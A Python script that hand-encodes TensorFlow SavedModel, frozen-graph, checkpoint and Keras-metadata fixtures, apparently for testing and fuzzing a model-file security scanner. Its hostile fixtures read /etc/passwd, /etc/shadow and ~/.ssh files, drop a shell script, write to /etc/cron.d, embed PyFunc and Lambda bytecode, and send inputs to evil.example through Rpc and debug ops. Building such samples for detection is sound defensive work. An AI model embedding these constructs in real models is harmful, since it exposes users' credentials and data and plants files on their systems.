#!/usr/bin/env python3
"""Generates the TensorFlow fixtures of tests/fixtures/tf/ and fuzz/corpus/tf/.

TensorFlow cannot be installed here, so the protobufs are written by hand
with a tiny encoder; field numbers follow tensorflow/core/protobuf/
saved_model.proto, meta_graph.proto, saver.proto, saved_object_graph.proto,
core/framework/graph.proto, node_def.proto, function.proto, attr_value.proto,
tensor.proto, tensor_shape.proto and keras/protobuf/saved_metadata.proto.

Usage: /usr/bin/python3 tests/gen/gen_tf.py   (from the repository root)
Standard library only.
"""
import os
import shutil
import struct

OUT = os.path.join("tests", "fixtures", "tf")
FUZZ = os.path.join("fuzz", "corpus", "tf")

DT_FLOAT, DT_INT32, DT_STRING, DT_RESOURCE = 1, 3, 7, 20


# ---- wire format ------------------------------------------------------------

def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def key(num, wire):
    return varint(num << 3 | wire)


def fv(num, v):
    return key(num, 0) + varint(v)


def fb(num, b):
    if isinstance(b, str):
        b = b.encode()
    return key(num, 2) + varint(len(b)) + b


def ff32(num, x):
    return key(num, 5) + struct.pack("<f", x)


# ---- TensorFlow messages ----------------------------------------------------

def shape(*dims):
    return b"".join(fb(2, fv(1, d & 0xFFFFFFFFFFFFFFFF)) for d in dims)


def tensor_float(values, dims=()):
    return fv(1, DT_FLOAT) + fb(2, shape(*dims)) + fb(5, b"".join(struct.pack("<f", v) for v in values))


def tensor_string(*values):
    dims = () if len(values) == 1 else (len(values),)
    return fv(1, DT_STRING) + fb(2, shape(*dims)) + b"".join(fb(8, v) for v in values)


def a_s(s):
    return fb(2, s)


def a_i(i):
    return fv(3, i)


def a_type(t):
    return fv(6, t)


def a_shape(*dims):
    return fb(7, shape(*dims))


def a_tensor(t):
    return fb(8, t)


def a_func(name):
    return fb(10, fb(1, name))


def a_list_s(*ss):
    return fb(1, b"".join(fb(2, s) for s in ss))


def a_list_type(*ts):
    return fb(1, fb(6, b"".join(varint(t) for t in ts)))


def node(name, op, inputs=(), attrs=None, device=""):
    b = fb(1, name) + fb(2, op)
    for i in inputs:
        b += fb(3, i)
    if device:
        b += fb(4, device)
    for k, v in (attrs or {}).items():
        b += fb(5, fb(1, k) + fb(2, v))
    return b


def const_f(name, values, dims=()):
    return node(name, "Const", attrs={"dtype": a_type(DT_FLOAT), "value": a_tensor(tensor_float(values, dims))})


def const_s(name, *values):
    return node(name, "Const", attrs={"dtype": a_type(DT_STRING), "value": a_tensor(tensor_string(*values))})


def placeholder(name, dtype=DT_FLOAT, dims=(-1, 1)):
    return node(name, "Placeholder", attrs={"dtype": a_type(dtype), "shape": a_shape(*dims)})


def graphdef(nodes, library=b"", producer=1395):
    b = b"".join(fb(1, n) for n in nodes)
    if library:
        b += fb(2, library)
    return b + fb(4, fv(1, producer))


def argdef(name, dtype):
    return fb(1, name) + fv(3, dtype)


def function(name, inputs, outputs, nodes, ret):
    sig = fb(1, name)
    for n, t in inputs:
        sig += fb(2, argdef(n, t))
    for n, t in outputs:
        sig += fb(3, argdef(n, t))
    b = fb(1, sig)
    for n in nodes:
        b += fb(3, n)
    for k, v in ret.items():
        b += fb(4, fb(1, k) + fb(2, v))
    return b


def library(*functions):
    return b"".join(fb(1, f) for f in functions)


def tensor_info(name, dtype=DT_FLOAT, dims=(-1, 1)):
    return fb(1, name) + fv(2, dtype) + fb(3, shape(*dims))


def signature(key_, inputs, outputs, method="tensorflow/serving/predict"):
    sd = b""
    for k, ti in inputs.items():
        sd += fb(1, fb(1, k) + fb(2, ti))
    for k, ti in outputs.items():
        sd += fb(2, fb(1, k) + fb(2, ti))
    sd += fb(3, method)
    return fb(5, fb(1, key_) + fb(2, sd))


def saver_def(filename, save, restore):
    return fb(3, fb(1, filename) + fb(2, save) + fb(3, restore) + fv(4, 5) + fv(7, 2))


def metagraph(graph, sigs=b"", saver=b"", extra=b"", tags=("serve",)):
    info = b"".join(fb(4, t) for t in tags) + fb(5, "2.14.0")
    return fb(1, info) + fb(2, graph) + saver + sigs + extra


def saved_model(*metas):
    return fv(1, 1) + b"".join(fb(2, m) for m in metas)


# ---- TF1 graph pieces -----------------------------------------------------------

def tf1_saver_nodes(var="a"):
    """The saver subgraph tf.compat.v1.train.Saver writes."""
    return [
        const_s("save/Const", b"model"),
        node("save/filename", "PlaceholderWithDefault", ["save/Const"],
             {"dtype": a_type(DT_STRING), "shape": a_shape()}),
        const_s("save/SaveV2/tensor_names", var.encode()),
        const_s("save/SaveV2/shape_and_slices", b""),
        node("save/SaveV2", "SaveV2", ["save/filename", "save/SaveV2/tensor_names",
                                       "save/SaveV2/shape_and_slices", var],
             {"dtypes": a_list_type(DT_FLOAT)}),
        node("save/control_dependency", "Identity", ["save/filename", "^save/SaveV2"],
             {"T": a_type(DT_STRING)}),
        node("save/RestoreV2", "RestoreV2", ["save/filename", "save/SaveV2/tensor_names",
                                             "save/SaveV2/shape_and_slices"],
             {"dtypes": a_list_type(DT_FLOAT)}),
        node("save/Assign", "Assign", [var, "save/RestoreV2"], {"T": a_type(DT_FLOAT)}),
        node("save/restore_all", "NoOp", ["^save/Assign"]),
    ]


def tf1_model(extra_nodes=(), out="y", sig_extra=None, extra_meta=b""):
    nodes = [
        placeholder("x"),
        node("a", "VariableV2", attrs={"dtype": a_type(DT_FLOAT), "shape": a_shape()}),
        node("a/read", "Identity", ["a"], {"T": a_type(DT_FLOAT)}),
        const_f("b", [2.0]),
        node("mul", "Mul", ["x", "a/read"], {"T": a_type(DT_FLOAT)}),
        node("y", "Add", ["mul", "b"], {"T": a_type(DT_FLOAT)}),
    ] + tf1_saver_nodes() + list(extra_nodes)
    outs = {"y": tensor_info(out + ":0")}
    if sig_extra:
        outs.update(sig_extra)
    sigs = signature("serving_default", {"x": tensor_info("x:0")}, outs)
    saver = saver_def("save/Const:0", "save/control_dependency:0", "save/restore_all")
    return saved_model(metagraph(graphdef(nodes), sigs, saver, extra_meta))


# ---- TF2 graph pieces -----------------------------------------------------------

def tf2_model(serving_fn_nodes=(), serving_ret="Identity:output:0", extra_functions=()):
    """A tf.Module with one variable and a serving function, saved by TF2:
    signature -> StatefulPartitionedCall(__inference_signature_wrapper_10)
    -> StatefulPartitionedCall(__inference_serve_5); the saver calls
    __inference__traced_save_20 / __inference__traced_restore_30."""
    fnode_attrs = {"Tin": a_list_type(DT_FLOAT, DT_RESOURCE), "Tout": a_list_type(DT_FLOAT),
                   "config": a_s(""), "executor_type": a_s("")}
    serve_nodes = [
        node("ReadVariableOp", "ReadVariableOp", ["resource"], {"dtype": a_type(DT_FLOAT)}),
        node("mul", "Mul", ["x", "ReadVariableOp:value:0"], {"T": a_type(DT_FLOAT)}),
        node("Identity", "Identity", ["mul:z:0"], {"T": a_type(DT_FLOAT)}),
    ] + list(serving_fn_nodes)
    serve = function("__inference_serve_5", [("x", DT_FLOAT), ("resource", DT_RESOURCE)],
                     [("identity", DT_FLOAT)], serve_nodes, {"identity": serving_ret})
    wrapper = function(
        "__inference_signature_wrapper_10", [("x", DT_FLOAT), ("unknown", DT_RESOURCE)],
        [("identity", DT_FLOAT)],
        [node("StatefulPartitionedCall", "StatefulPartitionedCall", ["x", "unknown"],
              dict(fnode_attrs, f=a_func("__inference_serve_5"))),
         node("Identity", "Identity", ["StatefulPartitionedCall:output:0"], {"T": a_type(DT_FLOAT)})],
        {"identity": "Identity:output:0"})
    save = function(
        "__inference__traced_save_20", [("file_prefix", DT_STRING), ("savev2_v", DT_FLOAT)],
        [("identity", DT_STRING)],
        [const_s("StaticRegexFullMatch/pattern", b"^s3://.*"),
         node("StaticRegexFullMatch", "StaticRegexFullMatch", ["file_prefix"], {"pattern": a_s("^s3://.*")}),
         const_s("Const", b".part"),
         const_s("Const_1", b"_temp/part"),
         node("Select", "Select", ["StaticRegexFullMatch:output:0", "Const:output:0", "Const_1:output:0"],
              {"T": a_type(DT_STRING)}),
         node("StringJoin", "StringJoin", ["file_prefix", "Select:output:0"], {"N": a_i(2)}),
         node("ShardedFilename", "ShardedFilename", ["StringJoin:output:0", "num_shards", "shard"]),
         const_s("SaveV2/tensor_names", b"v/.ATTRIBUTES/VARIABLE_VALUE"),
         const_s("SaveV2/shape_and_slices", b""),
         node("SaveV2", "SaveV2", ["ShardedFilename:filename:0", "SaveV2/tensor_names:output:0",
                                   "SaveV2/shape_and_slices:output:0", "savev2_v"],
              {"dtypes": a_list_type(DT_FLOAT)}),
         node("MergeV2Checkpoints", "MergeV2Checkpoints", ["ShardedFilename:filename:0", "file_prefix",
                                                           "^SaveV2"]),
         node("Identity", "Identity", ["file_prefix", "^MergeV2Checkpoints"], {"T": a_type(DT_STRING)})],
        {"identity": "Identity:output:0"})
    restore = function(
        "__inference__traced_restore_30", [("file_prefix", DT_STRING), ("v", DT_RESOURCE)],
        [("identity", DT_STRING)],
        [const_s("RestoreV2/tensor_names", b"v/.ATTRIBUTES/VARIABLE_VALUE"),
         const_s("RestoreV2/shape_and_slices", b""),
         node("RestoreV2", "RestoreV2", ["file_prefix", "RestoreV2/tensor_names:output:0",
                                         "RestoreV2/shape_and_slices:output:0"],
              {"dtypes": a_list_type(DT_FLOAT)}),
         node("AssignVariableOp", "AssignVariableOp", ["v", "RestoreV2:tensors:0"], {"dtype": a_type(DT_FLOAT)}),
         node("Identity", "Identity", ["file_prefix", "^AssignVariableOp"], {"T": a_type(DT_STRING)})],
        {"identity": "Identity:output:0"})
    lib = library(serve, wrapper, save, restore, *extra_functions)
    call = {"Tin": a_list_type(DT_FLOAT, DT_RESOURCE), "Tout": a_list_type(DT_FLOAT)}
    nodes = [
        node("v", "VarHandleOp", attrs={"dtype": a_type(DT_FLOAT), "shape": a_shape(),
                                        "shared_name": a_s("v")}),
        placeholder("serving_default_x", dims=(-1,)),
        node("StatefulPartitionedCall", "StatefulPartitionedCall", ["serving_default_x", "v"],
             dict(call, f=a_func("__inference_signature_wrapper_10"))),
        node("saver_filename", "Placeholder", attrs={"dtype": a_type(DT_STRING), "shape": a_shape()}),
        node("StatefulPartitionedCall_1", "StatefulPartitionedCall", ["saver_filename", "v"],
             dict(call, f=a_func("__inference__traced_save_20"))),
        node("StatefulPartitionedCall_2", "StatefulPartitionedCall", ["saver_filename", "v"],
             dict(call, f=a_func("__inference__traced_restore_30"))),
        node("NoOp", "NoOp"),
    ]
    sigs = (signature("serving_default", {"x": tensor_info("serving_default_x:0", dims=(-1,))},
                      {"output_0": tensor_info("StatefulPartitionedCall:0", dims=(-1,))}) +
            signature("__saved_model_init_op", {}, {"__saved_model_init_op": fb(1, "NoOp")}))
    saver = saver_def("saver_filename:0", "StatefulPartitionedCall_1:0", "StatefulPartitionedCall_2")
    # object graph: root (user object) -> v (variable with a saveable whose
    # save/restore functions are nodes 2 and 3), serve function node 4
    objs = [
        fb(1, fb(4, fb(1, "_generic_user_object"))),
        fb(1, fb(7, fv(1, DT_FLOAT) + fb(2, b"") + fb(6, "v")) +
           fb(11, fb(1, "VARIABLE_VALUE") + fb(2, fv(2, 2) + fv(3, 3)))),
        fb(1, fb(8, fb(1, "__inference__traced_save_20"))),
        fb(1, fb(8, fb(1, "__inference__traced_restore_30"))),
        fb(1, fb(6, fb(1, "__inference_serve_5"))),
    ]
    obj_graph = fb(7, b"".join(objs))
    return saved_model(metagraph(graphdef(nodes, lib), sigs, saver, obj_graph))


# ---- checkpoint index (table file) ------------------------------------------------

def block(entries):
    b = b""
    for k, v in entries:
        b += varint(0) + varint(len(k)) + varint(len(v)) + k + v
    return b + struct.pack("<I", 0) + struct.pack("<I", 1)


def snappy(data):
    """A small Snappy encoder: literals and 1-byte-offset copies."""
    out = bytearray(varint(len(data)))
    i = lit = 0
    while i < len(data):
        best = 0
        best_off = 0
        for off in range(1, min(i, 2047) + 1):
            n = 0
            while i + n < len(data) and n < 11 and data[i + n - off] == data[i + n]:
                n += 1
            if n > best:
                best, best_off = n, off
        if best >= 4:
            if lit < i:
                chunk = data[lit:i]
                while chunk:
                    c = chunk[:60]
                    out.append((len(c) - 1) << 2)
                    out += c
                    chunk = chunk[60:]
            out.append(1 | ((best - 4) << 2) | ((best_off >> 8) << 5))
            out.append(best_off & 0xFF)
            i += best
            lit = i
        else:
            i += 1
    chunk = data[lit:]
    while chunk:
        c = chunk[:60]
        out.append((len(c) - 1) << 2)
        out += c
        chunk = chunk[60:]
    return bytes(out)


def checkpoint_index(names, compress=False):
    header = fv(1, 1) + fb(3, fv(1, 1))
    entries = [(b"", header)]
    for i, n in enumerate(names):
        entries.append((n.encode(), fv(1, DT_FLOAT) + fb(2, b"") + fv(4, 4 * i) + fv(5, 4) +
                        key(6, 5) + struct.pack("<I", 0x12345678)))
    data = block(entries)
    raw = snappy(data) if compress else data
    out = raw + bytes([1 if compress else 0]) + b"\0\0\0\0"
    meta_off = len(out)
    meta = block([])
    out += meta + b"\0\0\0\0\0"
    idx_off = len(out)
    idx = block([(b"\xff", varint(0) + varint(len(raw)))])
    out += idx + b"\0\0\0\0\0"
    footer = varint(meta_off) + varint(len(meta)) + varint(idx_off) + varint(len(idx))
    footer += b"\0" * (40 - len(footer)) + struct.pack("<Q", 0xDB4775248B80FB57)
    return out + footer


# ---- fixtures ---------------------------------------------------------------------

def write(path, data):
    full = os.path.join(OUT, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as f:
        f.write(data)


def savedmodel_dir(name, pb, variables=("a",), compress=False):
    write(os.path.join(name, "saved_model.pb"), pb)
    if variables:
        write(os.path.join(name, "variables", "variables.index"), checkpoint_index(variables, compress))
        write(os.path.join(name, "variables", "variables.data-00000-of-00001"),
              struct.pack("<%df" % len(variables), *[0.5] * len(variables)))


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)

    # benign TF1 SavedModel directory (saver subgraph under saver_def)
    savedmodel_dir("benign_tf1", tf1_model())
    # benign TF2 SavedModel with a function library, object graph and a
    # Snappy-compressed checkpoint index
    savedmodel_dir("benign_tf2", tf2_model(), ("v/.ATTRIBUTES/VARIABLE_VALUE", "_CHECKPOINTABLE_OBJECT_GRAPH"),
                   compress=True)
    write("benign_tf2/fingerprint.pb", fb(6, fv(1, 1)) + fv(5, 123456789) + fv(4, 987654321) + fv(3, 55) +
          fv(2, 77) + fv(1, 99))
    write("benign_tf2/assets.extra/saved_model_config.pb", b"")

    # PyFunc in the serving graph
    write("pyfunc_serving.pb", tf1_model([
        node("py", "PyFunc", ["x"], {"token": a_s("pyfunc_0"), "Tin": a_list_type(DT_FLOAT),
                                     "Tout": a_list_type(DT_FLOAT)})], out="py"))
    # ReadFile('/etc/passwd') reachable from the signature
    write("readfile_signature.pb", tf1_model([
        const_s("path", b"/etc/passwd"),
        node("leak", "ReadFile", ["path"])],
        sig_extra={"leak": tensor_info("leak:0", DT_STRING, ())}))
    # WriteFile in a library function called from the serving function (TF2)
    evil = function("__inference_drop_7", [("x", DT_FLOAT)], [("identity", DT_FLOAT)],
                    [const_s("target", b"/tmp/laocoon-dropped"),
                     const_s("payload", b"#!/bin/sh\necho pwned\n"),
                     node("WriteFile", "WriteFile", ["target:output:0", "payload:output:0"]),
                     node("Identity", "Identity", ["x", "^WriteFile"], {"T": a_type(DT_FLOAT)})],
                    {"identity": "Identity:output:0"})
    write("tf2_writefile_function.pb", tf2_model(
        [node("drop", "StatefulPartitionedCall", ["Identity:output:0"],
              {"f": a_func("__inference_drop_7"), "Tin": a_list_type(DT_FLOAT), "Tout": a_list_type(DT_FLOAT)})],
        serving_ret="drop:output:0", extra_functions=(evil,)))
    # PrintV2 into a file
    write("printv2_file.pb", tf1_model([
        node("fmt", "StringFormat", ["x"], {"template": a_s("{}"), "T": a_list_type(DT_FLOAT)}),
        node("print", "PrintV2", ["fmt"], {"output_stream": a_s("file:///tmp/inputs.log")}),
        node("y2", "Identity", ["y", "^print"], {"T": a_type(DT_FLOAT)})], out="y2"))
    # MatchingFiles listing a home directory
    write("matchingfiles.pb", tf1_model([
        const_s("pattern", b"/home/*/.ssh/*"),
        node("ls", "MatchingFiles", ["pattern"])],
        sig_extra={"files": tensor_info("ls:0", DT_STRING, (-1,))}))
    # DecodeProtoV2 with descriptors from a file
    write("decodeproto_file.pb", tf1_model([
        placeholder("bytes", DT_STRING, (-1,)),
        node("dp", "DecodeProtoV2", ["bytes"], {"message_type": a_s("evil.Msg"), "field_names": a_list_s("f"),
                                                "output_types": a_list_type(DT_FLOAT),
                                                "descriptor_source": a_s("/tmp/evil.desc")})],
        sig_extra={"decoded": tensor_info("dp:1", DT_FLOAT, (-1,))}))
    # a dataset graph (with ReadFile) serialized in a Const, fed to DatasetFromGraph
    inner = graphdef([const_s("p", b"/etc/shadow"), node("r", "ReadFile", ["p"]),
                      node("ds", "TensorDataset", ["r"], {"Toutput_types": a_list_type(DT_STRING)})])
    write("nested_dataset.pb", tf1_model([
        const_s("serialized_graph", inner),
        node("dataset", "DatasetFromGraph", ["serialized_graph"]),
        node("it", "DatasetToSingleElement", ["dataset"], {"output_types": a_list_type(DT_STRING)})],
        sig_extra={"elem": tensor_info("it:0", DT_STRING, ())}))
    # the saver's SaveV2 writing to a fixed absolute path
    nodes = [placeholder("x"),
             node("a", "VariableV2", attrs={"dtype": a_type(DT_FLOAT), "shape": a_shape()}),
             node("y", "Mul", ["x", "a"], {"T": a_type(DT_FLOAT)})] + tf1_saver_nodes()
    nodes[3] = const_s("save/Const", b"/etc/cron.d/job")
    write("saver_fixed_path.pb", saved_model(metagraph(
        graphdef(nodes), signature("serving_default", {"x": tensor_info("x:0")}, {"y": tensor_info("y:0")}),
        saver_def("save/Const:0", "save/control_dependency:0", "save/restore_all"))))
    # an op no TensorFlow build has
    write("unknown_op.pb", tf1_model([node("zz", "ZzEvilKernel", ["x"])], out="zz"))
    # network and debug sinks
    write("rpc_debug.pb", tf1_model([
        const_s("addr", b"evil.example:443"), const_s("method", b"/exfil"),
        node("fmt", "AsString", ["x"], {"T": a_type(DT_FLOAT)}),
        node("rpc", "Rpc", ["addr", "method", "fmt"]),
        node("dbg", "DebugIdentity", ["x"], {"debug_urls": a_list_s("grpc://evil.example:6064")}),
        node("y3", "AddN", ["y", "dbg"], {"N": a_i(2)})],
        out="y3", sig_extra={"r": tensor_info("rpc:0", DT_STRING, (-1,))}))

    # frozen GraphDefs
    frozen = [placeholder("input"), const_f("w", [0.5, 0.25, 1.0, 2.0], (2, 2)),
              node("mm", "MatMul", ["input", "w"], {"T": a_type(DT_FLOAT)}),
              const_f("bias", [1.0, -1.0], (2,)),
              node("add", "Add", ["mm", "bias"], {"T": a_type(DT_FLOAT)}),
              node("output", "Identity", ["add"], {"T": a_type(DT_FLOAT)})]
    write("frozen_benign.pb", graphdef(frozen))
    write("frozen_pyfunc.pb", graphdef(frozen + [
        node("cb", "EagerPyFunc", ["output"], {"token": a_s("pyfunc_1"), "Tin": a_list_type(DT_FLOAT),
                                               "Tout": a_list_type(DT_FLOAT)})]))

    # keras_metadata.pb with a Lambda layer carrying bytecode
    lam = ('{"class_name": "Lambda", "name": "lambda", "config": {"name": "lambda", "trainable": true, '
           '"dtype": "float32", "function": ["4wEAAAAAAAAAAAAAAAEAAAAFAAAAQwAAAHMMAAAAdAB8AIMBZAEUAFMAKQJO6QIAAAA'
           'pAdoDYWJzKQHaAXipAHICAAAA+h88aXB5dGhvbi1pbnB1dC0xLTQ0NWQ4ZjU1ZTUwNT7aCDxsYW1iZGE+AQAAAPMAAAAA", '
           'null, null], "function_type": "lambda", "module": "__main__", "output_shape": null, '
           '"output_shape_type": "raw", "output_shape_module": null, "arguments": {}}}')
    dense = ('{"class_name": "Dense", "name": "dense", "config": {"name": "dense", "units": 1, '
             '"activation": "linear"}}')

    def kobj(node_id, path, ident, meta):
        return fb(1, fb(1, fv(1, 2) + fv(2, 1)) + fv(2, node_id) + fb(3, path) + fb(4, ident) + fb(5, meta))
    write("keras_metadata_lambda.pb", kobj(1, "root.layer-0", "_tf_keras_layer", lam) +
          kobj(2, "root.layer-1", "_tf_keras_layer", dense))
    write("keras_metadata_benign.pb", kobj(1, "root.layer-0", "_tf_keras_layer", dense))

    # malformed: a SavedModel cut in the middle, a corrupt checkpoint index
    good = tf1_model()
    write("truncated.pb", good[:len(good) // 2])
    idx = bytearray(checkpoint_index(["a"]))
    idx[2] = 0x7F  # the first entry's key length now runs past the block
    write("bad_index/variables.index", bytes(idx))

    # fuzz seeds
    if os.path.isdir(FUZZ):
        shutil.rmtree(FUZZ)
    os.makedirs(FUZZ)
    seeds = ["benign_tf1/saved_model.pb", "benign_tf2/saved_model.pb", "benign_tf2/variables/variables.index",
             "benign_tf2/fingerprint.pb", "pyfunc_serving.pb", "tf2_writefile_function.pb",
             "nested_dataset.pb", "frozen_benign.pb", "keras_metadata_lambda.pb", "rpc_debug.pb",
             "decodeproto_file.pb"]
    for s in seeds:
        shutil.copy(os.path.join(OUT, s), os.path.join(FUZZ, s.replace("/", "_")))


if __name__ == "__main__":
    main()
